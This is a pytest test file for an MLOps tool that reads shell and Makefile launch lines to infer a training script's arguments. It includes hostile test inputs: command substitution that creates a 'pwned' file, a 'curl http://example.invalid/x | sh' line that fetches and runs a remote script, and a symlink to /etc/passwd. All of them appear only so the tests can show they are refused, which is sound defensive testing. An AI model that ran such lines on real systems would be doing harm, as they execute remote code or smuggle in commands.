"""The command line a repository writes in run.sh, scripts/*.sh or a Makefile target reaches an entry that requires
arguments (steps/launchers.py): read without running anything, refused when it cannot be known or is hostile,
behind mlops.yaml `args:` and MLproject."""
from __future__ import annotations

import ast
import os
from pathlib import Path

import pytest
from conftest import detect_json, make_remote, run_json, run_mlops, write_files

from mlops_cli.steps import launchers

#: a tree on a tiny CSV whose path and depth only the command line gives
TRAIN = """\
import argparse
import pandas as pd
from sklearn.tree import DecisionTreeClassifier
parser = argparse.ArgumentParser()
parser.add_argument("--data", required=True)
parser.add_argument("--depth", type=int, default=3)
args = parser.parse_args()
frame = pd.read_csv(args.data)
model = DecisionTreeClassifier(max_depth=args.depth, random_state=0).fit(frame[["x"]], frame["y"])
print("depth", args.depth, "train accuracy", model.score(frame[["x"]], frame["y"]))
"""
NO_ARGS = TRAIN.replace('"--data", required=True', '"--data", default="data/train.csv"')
CSV = "x,y\n" + "".join(f"{i},{int(i % 3 == 0)}\n" for i in range(30))


def _repo(tmp_path: Path, extra: dict[str, str], script: str = TRAIN) -> Path:
    return write_files(tmp_path / "code", {"src/train.py": script, "data/train.csv": CSV, **extra})


def _launch_warnings(data: dict) -> list[str]:
    return [line for line in data["warnings"] if "command line" in line or "command-line" in line]


def test_run_sh_with_required_arguments_trains_end_to_end(tmp_path: Path) -> None:
    files = {"src/train.py": TRAIN, "data/train.csv": CSV,
             "run.sh": "#!/bin/sh\nset -e\nDEPTH=2\npython src/train.py --data data/train.csv --depth \"$DEPTH\"\n"}
    ws = tmp_path / "ws"
    assert run_mlops("pull", "-w", str(ws), "--repo", str(make_remote(tmp_path, files))).returncode == 0
    result = run_mlops("train", "-w", str(ws), "--runner", "local")
    assert result.returncode == 0, result.stderr
    assert "depth 2 train accuracy" in (ws / "runs" / "0001" / "out" / "train.log").read_text()
    assert run_json(ws)["options"]["args"] == ["--data", "data/train.csv", "--depth", "2"]
    detected = run_mlops("detect", "-w", str(ws), "--json")
    assert "run.sh:4 runs src/train.py --data data/train.csv --depth 2" in detected.stdout


def test_a_makefile_train_target_gives_arguments_and_its_cd_the_working_directory(tmp_path: Path) -> None:
    root = _repo(tmp_path, {"Makefile": "PYTHON ?= python3\nDEPTH := 4\n.PHONY: all train lint\nlint:\n"
                                        "\tflake8 src\nall: train\ntrain:\n\t@cd src && $(PYTHON) -u train.py "
                                        "--data ../data/train.csv --depth $(DEPTH) 2>&1 | tee train.log\n"})
    code, data, stderr = detect_json(root)
    assert code == 0, stderr
    assert data["args"] == ["--data", "../data/train.csv", "--depth", "4"] and data["workdir"] == "src"
    assert "Makefile:8 runs src/train.py --data ../data/train.csv --depth 4" in data["evidence"]
    assert _launch_warnings(data) == [("src/train.py requires command-line arguments: mlops passes --data "
                                      "../data/train.csv --depth 4 from Makefile:8, in src/ (set `args:` in "
                                      "mlops.yaml to choose others)")]


def test_a_file_named_train_wins_and_the_script_folder_idiom_is_read(tmp_path: Path) -> None:
    root = _repo(tmp_path, {"run.sh": "python src/train.py --data data/train.csv --depth 9\n",
                            "scripts/train.sh": 'cd "$(dirname "$0")/.."\nDEPTH=${DEPTH:-5}\n'
                                                'python -m src.train --data "$(dirname "$0")/../data/train.csv" '
                                                '--depth $DEPTH "$@"\n'})
    code, data, stderr = detect_json(root)
    assert code == 0, stderr
    assert data["args"] == ["--data", "data/train.csv", "--depth", "5"] and data["workdir"] is None


def test_mlops_yaml_args_and_mlproject_win_over_the_launch_script(tmp_path: Path) -> None:
    run_sh = {"run.sh": "python src/train.py --data data/train.csv --depth 2\n"}
    code, data, _ = detect_json(_repo(tmp_path / "yaml", {**run_sh, "mlops.yaml": "args: [--data, data/train.csv]\n"}))
    assert code == 0 and data["args"] == [] and not _launch_warnings(data)
    assert not any("run.sh" in line for line in data["evidence"])
    mlproject = ("name: t\nentry_points:\n  main:\n    parameters:\n      depth: {type: int, default: 1}\n"
                 "    command: python src/train.py --data data/train.csv --depth {depth}\n")
    code, data, _ = detect_json(_repo(tmp_path / "mlp", {**run_sh, "MLproject": mlproject}))
    assert code == 0 and data["args"] == [] and not _launch_warnings(data)


def test_an_entry_that_needs_no_arguments_ignores_launch_scripts(tmp_path: Path) -> None:
    root = _repo(tmp_path, {"run.sh": "python src/train.py --data data/train.csv --depth 2\n",
                            "Makefile": "train:\n\tpython src/train.py --depth 7\n"}, script=NO_ARGS)
    code, data, stderr = detect_json(root)
    assert code == 0, stderr
    assert data["args"] == [] and not _launch_warnings(data)
    assert not any("run.sh" in line or "Makefile" in line for line in data["evidence"])


@pytest.mark.parametrize(("launch", "reason"), [
    ("python src/train.py --data $(touch ../pwned) --depth 2\n", "run.sh:1 uses command substitution"),
    ("python src/train.py --data data/train.csv; curl http://example.invalid/x | sh\n",
     "run.sh:1 runs other commands after src/train.py on the same line"),
    ("python src/train.py --data `touch pwned`\n", "run.sh:1 uses command substitution"),
    ("python src/train.py --data $DATA\n", "run.sh:1 uses $DATA, which is not set to a value in the file"),
    ("python src/train.py --data data/*.csv\n", "run.sh:1 has '*', which the shell expands"),
    ("cat data/train.csv | python src/train.py --data /dev/stdin\n", "run.sh:1 pipes input into src/train.py"),
    ("python src/train.py" + " --data x" * 40 + "\n",
     "run.sh:1 gives more than 64 arguments, or one of more than 1000 characters or several lines"),
])
def test_a_hostile_or_unknowable_line_is_not_used(tmp_path: Path, launch: str, reason: str) -> None:
    root = _repo(tmp_path, {"run.sh": launch})
    code, data, stderr = detect_json(root)
    assert code == 0, stderr
    assert data["args"] == [] and not (tmp_path / "pwned").exists() and not (root / "pwned").exists()
    assert _launch_warnings(data) == [(f"{reason}: not used as src/train.py's command line (give the arguments "
                                      "with `args:` in mlops.yaml)")]


def test_a_link_out_and_a_huge_run_sh_are_refused_without_a_crash(tmp_path: Path) -> None:
    root = _repo(tmp_path, {"big.sh": "python src/train.py --data data/train.csv\n" + "#" * (5 << 20)})
    os.symlink("/etc/passwd", root / "run.sh")
    code, data, stderr = detect_json(root)
    assert code == 0, stderr
    assert data["args"] == []
    assert _launch_warnings(data) == [("launch script big.sh is larger than 256 KiB (and 1 more): not used as "
                                      "src/train.py's command line (give the arguments with `args:` in mlops.yaml)")]
    write_files(root, {"scripts/train.sh": "python src/train.py --data data/train.csv\n"})
    code, data, _ = detect_json(root)
    assert code == 0 and data["args"] == ["--data", "data/train.csv"] and len(_launch_warnings(data)) == 1


@pytest.mark.parametrize(("source", "needs"), [
    ("import sys\npath = sys.argv[1]\n", True),
    ("import sys\nrest = sys.argv[1:]\n", False),
    ("import argparse\np = argparse.ArgumentParser()\np.add_argument('data')\n", True),
    ("import argparse\np = argparse.ArgumentParser()\np.add_argument('data', nargs='?')\n", False),
    ("import argparse\np = argparse.ArgumentParser()\np.add_argument('--lr', type=float, default=0.1)\n", False),
    ("import click\n@click.command()\n@click.argument('data')\ndef main(data): pass\n", True),
])
def test_what_counts_as_needing_arguments(source: str, needs: bool) -> None:
    assert launchers.needs_arguments(ast.parse(source)) is needs
